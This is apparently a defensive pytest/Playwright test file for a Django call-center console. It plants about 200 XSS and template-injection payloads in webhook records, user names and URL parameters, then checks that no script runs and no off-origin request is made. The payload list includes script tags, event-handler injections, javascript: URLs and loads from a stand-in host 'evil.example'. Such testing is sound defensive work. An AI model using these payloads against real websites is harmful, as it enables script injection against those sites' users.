"""F-56: whatever a caller, a queue or Voicenter itself may be called is text on every page, and nothing else.

About 200 payloads go into every text field of a push, into bodies that cannot be read, into names of people
and into the addresses of pages. A browser then visits the pages as owner, manager and agent; it may not execute
anything, ask for anything, nor have anything to refuse.
"""

from __future__ import annotations

import itertools
import os
import shutil
from calendar import timegm
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from urllib.parse import urlencode, urlsplit

import pytest
from django.test import Client
from django.utils import timezone
from playwright.sync_api import BrowserContext, Page, sync_playwright

from calls.models import Call, Cdr
from tests.browser.conftest import FLAGS
from voicenter_console.organisation.models import User
from voicenter_console.organisation.roles import Right
from voicenter_console.webhooks.models import Delivery

CHROMIUM = shutil.which("chromium")
pytestmark = [
    pytest.mark.fault("F-56"),
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM, reason="no Chromium on this machine"),
]

_ACTS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example/><input name=x autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div hx-on::load='alert(1)' data-hx-on:htmx:load='alert(1)'>x</div>",
    "<template><img src=x onerror=alert(1)></template>",
]
_OUT_OF = ["", '">', "'>", "</title>", "</script>", "</textarea></style>", "--><!-- -->"]
_BARE = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/x.mp3",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onfocus='alert(1)' autofocus tabindex='1",
    "` onfocus=alert(1) autofocus ",
    "x onload=alert(1) ",
    "{{ 7|add:7 }}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\u202e<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
]
PAYLOADS = [start + act for start, act in itertools.product(_OUT_OF, _ACTS)] + _BARE

_TEXT_FIELDS = [
    "caller", "target", "callerextension", "targetextension", "did", "queuename", "representative_name",
    "representative_code", "DepartmentName", "topDepartmentName", "type", "status", "record", "callername",
]  # fmt: skip
# Each field a payload of its own, so that every payload stands in every field of some record.
_STEP = 17
_LEGS = 60

# What the page itself can tell of something that came in by a text field.
_LOOK = """
() => {
  const found = [];
  const tell = (node) => found.push(node.outerHTML.slice(0, 200));
  const places = ["href", "src", "action", "formaction", "hx-get", "hx-post", "data-href", "data-live-url"];
  for (const node of document.querySelectorAll("*")) {
    if ([...node.attributes].some(({ name }) => name.startsWith("on"))) tell(node);
    if (/^(iframe|object|embed|base|math|template)$/.test(node.localName)) tell(node);
    for (const name of places) {
      const value = node.getAttribute(name);
      if (value === null || (name === "src" && value.startsWith("data:image/"))) continue;
      if (new URL(value, location.href).origin !== location.origin) found.push(`${name}=${value}`);
    }
  }
  for (const script of document.scripts) if (!script.src && script.type !== "application/json") tell(script);
  return found;
}
"""
_WATCH = """
window.alert = window.confirm = window.prompt = window.print = () => happened("a script was executed");
document.addEventListener("securitypolicyviolation",
  (event) => happened(`refused: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""


@pytest.fixture
def poisoned(push, post_hook, rina: User, dana: User, owner: User, a_push: dict) -> None:
    """An account whose every text says something it should not."""
    now = timezone.localtime()
    numbers = range(len(PAYLOADS))
    records = [_record(a_push, number, now - timedelta(seconds=number)) for number in numbers]
    root = records[1]["ivruniqueid"]
    legs = [_record(a_push, number, now, "leg") | {"originalivruniqueid": root} for number in range(_LEGS)]
    push(*records, *legs, _rich(a_push, now))
    for payload in PAYLOADS[::10]:
        post_hook(f"{{{payload}".encode(), "application/json")
        post_hook(b"not a call", f"text/{payload}".encode("ascii", "ignore").decode().replace("\x00", ""))
    for place, person in enumerate((rina, dana, owner)):
        person.name = PAYLOADS[4 + place]
        person.save()


def _record(like: dict, number: int, moment: datetime, kind: str = "call") -> dict:
    """A record with a payload in every text field; every second one is Dana's."""
    said = {name: PAYLOADS[(number + place * _STEP) % len(PAYLOADS)] for place, name in enumerate(_TEXT_FIELDS)}
    if number % 2:
        said |= {"representative_code": "10007", "status": "ANSWER"}
    payload, other = PAYLOADS[number], PAYLOADS[-number]
    return {
        **like, **said, **_own_of(moment, f"{kind}{number:04}"),
        "IVR": [{"layer_id": 1, "layer_name": payload, "layer_number": 1, "Dtmf": other}],
        "CustomData": {f"var_{payload}": other, "var_new": payload}, f"new {payload}": payload,
    }  # fmt: skip


def _rich(like: dict, moment: datetime) -> dict:
    """One call of Dana's with all payloads in its custom data and in its way through the menu."""
    return {
        **like, **_own_of(moment, "rich0001"),
        "CustomData": {payload: PAYLOADS[place - 1] for place, payload in enumerate(PAYLOADS)},
        "IVR": [
            {"layer_id": n, "layer_name": payload, "layer_number": payload, "Dtmf": payload, "dtmf_order": n}
            for n, payload in enumerate(PAYLOADS)
        ],
    }  # fmt: skip


def _own_of(moment: datetime, name: str) -> dict:
    """Call id and time as Voicenter writes them: the centre's clock, read as if it were UTC."""
    return {"ivruniqueid": f"{moment:%Y%m%d%H%M%S}{name}", "time": timegm(moment.timetuple())}


@pytest.fixture
def visit(live_server, monkeypatch) -> Iterator[Callable[[User], tuple[BrowserContext, list[str]]]]:
    """A signed-in browser of somebody, and the list of what happened in it that should not."""
    # playwright keeps an event loop in this thread; the database is used apart from it
    monkeypatch.setitem(os.environ, "DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)

        def visited(user: User) -> tuple[BrowserContext, list[str]]:
            happened: list[str] = []
            client = Client()
            client.force_login(user)
            context = browser.new_context(base_url=live_server.url)
            context.add_cookies(
                [{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": live_server.url}]
            )
            context.expose_function("happened", lambda what: happened.append(what))
            context.add_init_script(_WATCH)
            # the line of live events belongs to the ASGI server; without it the page says "Not live"
            context.route("**/live/", lambda route: route.fulfill(content_type="text/event-stream", body=""))
            context.on("request", lambda request: _own(request.url, live_server.url, happened))
            context.on("dialog", lambda dialog: (happened.append("a dialog"), dialog.dismiss()))
            return context, happened

        yield visited
        browser.close()


def _own(url: str, home: str, happened: list[str]) -> None:
    if not url.startswith((f"{home}/", "data:image/")):
        happened.append(f"asked for {url}")


def _look(page: Page, path: str) -> list[str]:
    """What is wrong on one page."""
    page.goto(path)
    assert urlsplit(page.url).path == urlsplit(path).path, f"{path} led to {page.url}"
    return [f"{path}: {thing}" for thing in page.evaluate(_LOOK)]


def _pages_of(user: User) -> list[str]:
    """Calls with many legs and of each kind, payloads, and what the rail offers; the log is walked apart."""
    calls = Call.objects.visible_to(user).order_by("-cdr_count", "pk")
    rich = calls.get(ids__call_uid__endswith="rich0001")
    paths = [f"/calls/{call.pk}/" for call in [rich, calls[0], *calls[1::_STEP]]]
    if not user.may(Right.SEE_RAW):
        return paths
    legs = Cdr.objects.visible_to(user).order_by("pk")
    deliveries = Delivery.objects.visible_to(user).order_by("-pk")
    paths += [f"/deliveries/{delivery.pk}/raw/" for delivery in deliveries[: 2 * len(PAYLOADS[::10]) : 3]]
    paths += [f"/calls/legs/{leg.pk}/raw/" for leg in [rich.cdrs.get(), *legs[::_STEP]]]
    paths += ["/", "/deliveries/"]
    if user.may(Right.ADMINISTER):
        paths += ["/admin/", "/admin/auth/group/"]
    return paths


def _asked(payloads: list[str]) -> list[str]:
    """Addresses of the log that somebody was sent, with payloads in every parameter."""
    names = [
        "search",
        "period",
        "direction",
        "outcome",
        "queue",
        "agent",
        "did",
        "wait",
        "jump",
        "older",
        "newer",
    ]
    return [f"/calls/?{urlencode(dict.fromkeys(names, payload))}" for payload in payloads] + [
        f"/calls/?{urlencode({'queue': payload, 'search': payload})}" for payload in payloads
    ]


@pytest.mark.parametrize("role", ["owner", "rina", "dana"])
def test_nothing_that_came_in_is_executed_or_asked_for(request, poisoned, visit, role):
    user = request.getfixturevalue(role)
    context, happened = visit(user)
    page = context.new_page()
    wrong = []
    for path in [*_pages_of(user), *_asked(PAYLOADS[::40])]:
        wrong += _look(page, path)
    seen = 0
    wrong += _look(page, "/calls/")
    while True:
        seen += page.locator("tbody.call").count()
        older = page.locator("a[rel=next]")
        if not older.count():
            break
        wrong += _look(page, older.get_attribute("href"))

    assert not wrong, "\n".join(wrong)
    assert not happened, "\n".join(happened)
    # every second call is Dana's
    assert seen >= len(PAYLOADS) // (2 if role == "dana" else 1)


def test_the_drawer_shows_text(rina, poisoned, visit):
    """What htmx swaps in is looked at too, and what a press on the first thing in it does."""
    context, happened = visit(rina)
    page = context.new_page()
    page.goto(_pages_of(rina)[0])
    page.locator("a.raw").first.click()
    page.locator("#drawer pre.payload").wait_for()
    page.locator("#drawer pre.payload").click()

    assert page.evaluate(_LOOK) == []
    assert "<script>alert(1)</script>" in page.locator("#drawer pre.payload").inner_text()
    assert not happened, "\n".join(happened)


def test_the_browser_would_have_told(rina, visit, account):
    """The same eyes see a payload that was let through: refused by the page's policy, and named."""
    context, happened = visit(rina)
    page = context.new_page()
    page.goto("/calls/")
    page.evaluate("document.querySelector('main').insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')")
    page.evaluate("document.querySelector('main').insertAdjacentHTML('beforeend', '<a href=javascript:alert(1)>x</a>')")
    page.locator("main img").wait_for(state="attached")
    page.wait_for_timeout(300)

    assert any(thing.startswith("refused: script-src") for thing in happened), happened
    assert len(page.evaluate(_LOOK)) == 2
    page.evaluate("alert(1)")
    assert "a script was executed" in happened
